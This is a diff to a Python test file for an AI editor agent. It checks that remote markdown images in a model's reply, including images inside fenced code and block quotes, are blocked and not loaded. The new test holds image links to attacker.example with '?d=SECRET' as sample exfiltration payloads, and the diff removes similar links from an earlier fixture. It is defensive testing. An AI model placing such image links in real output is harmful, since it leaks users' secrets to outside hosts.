@@ -47,19 +47,19 @@ ORDINARY = "\n".join([
     "or <https://example.org/page?q=1>, and a local picture ![diagram](docs/chat.png).",
     "",
     "```markdown",
-    "![badge](https://attacker.example/badge.svg?d=SECRET)",
+    "![badge](docs/badge.svg)",
     '<img src="docs/chat.png" alt="a local one">',
     "```",
     "",
     "~~~",
-    "![x](https://attacker.example/x)",
+    "![x](x.png) <b>bold</b>",
     "~~~",
     "",
     "Escaped: \\![not an image](https://example.org) and 3 < 4 > 2, **bold** `code`!",
     "",
     "1. In a list:",
     "   ```sh",
-    "   echo '![x](https://attacker.example/a)'",
+    "   echo '![x](a.png)'",
     "   ```",
     "2. Done.",
 ])
@@ -105,6 +105,23 @@ async def test_a_remote_image_in_the_reply_is_not_sent(tmp_path: Path, chunk_siz
             client.updates.clear()  # code blocks, links and escapes are not touched
             await conn.prompt(session_id=session, prompt=[text_block("and now?")])
             assert text_of(client) == ORDINARY
+
+
+async def test_a_remote_image_in_fenced_code_is_not_sent_either(tmp_path: Path) -> None:
+    """Fenced code was passed as written; where a renderer tells the blocks around it apart
+    otherwise than loopwright (nested lists, block quotes around a fence: the fuzzing found
+    a few such leaks in 30,000 cases), the line is read as prose and its image loads."""
+    reply = "\n".join(["> - item", ">   ```", "![c](https://attacker.example/c?d=SECRET)",
+                       ">   ```", "", "```md", "![d](https://attacker.example/d?d=SECRET)",
+                       "![local](d.png)", "```"])
+    client = EditorClient()
+    with FakeModelServer([Reply(reply, chunk_size=3)]) as server:
+        async with acp_agent(client, server, tmp_path) as conn:
+            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
+            await conn.prompt(session_id=session, prompt=[text_block("show the snippet")])
+    shown = text_of(client)
+    assert "SECRET" not in shown and "(image from attacker.example not loaded: d)" in shown
+    assert "![local](d.png)" in shown
 
 
 async def test_an_image_from_an_allowed_host_is_kept(tmp_path: Path) -> None:
